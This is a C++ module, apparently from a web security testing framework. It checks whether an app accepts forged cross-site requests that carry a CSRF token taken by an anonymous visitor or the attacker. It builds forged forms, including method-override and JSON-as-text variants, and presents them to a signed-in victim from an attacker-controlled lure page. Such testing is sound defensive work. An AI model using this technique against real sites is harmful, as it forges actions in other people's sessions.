// csrf-token: a forged form that carries a token after all: the attacker's own, or one that the app
// gives to any visitor. A token must be the one of the session that the cookie names.
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/own_form.h"

namespace parapet::attack {
namespace {

class CsrfToken final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = any_host(target);
        if (evil == nullptr) return;
        std::vector<ForgedForm> forgeries;
        for (Endpoint const* each : unsafe_endpoints(target)) {
            add_forgeries(forgeries, target, *each, look_at_form(target, *each, As::Visitor));
            add_forgeries(forgeries, target, *each, look_at_form(target, *each, As::Attacker));
        }
        if (forgeries.empty()) {
            target.note("The app's own form carries no token that could be copied.");
            return;
        }
        if (!victim_signs_in(target)) return;
        target.wait(std::chrono::minutes(3));
        Lure lure(target, *evil);
        for (ForgedForm const& each : forgeries) lure.show(submitting(each));
        target.note("The forged forms carried tokens that the app had given to the attacker.");
    }

    static void add_forgeries(std::vector<ForgedForm>& to, Target const& target,
                              Endpoint const& endpoint, OwnForm const& own) {
        if (own.tokens.empty()) return;
        ForgedForm form{.action = address_of(target, endpoint), .fields = wanted_fields(endpoint)};
        if (endpoint.method != "POST") form.action += "?_method=" + endpoint.method;
        for (http::QueryPair const& token : own.tokens) form.fields.push_back(token);
        to.push_back(form);
        to.push_back(json_as_text(form.action, form.fields));
    }
};

}  // namespace

std::unique_ptr<Agent> make_csrf_token() { return std::make_unique<CsrfToken>(); }

}  // namespace parapet::attack
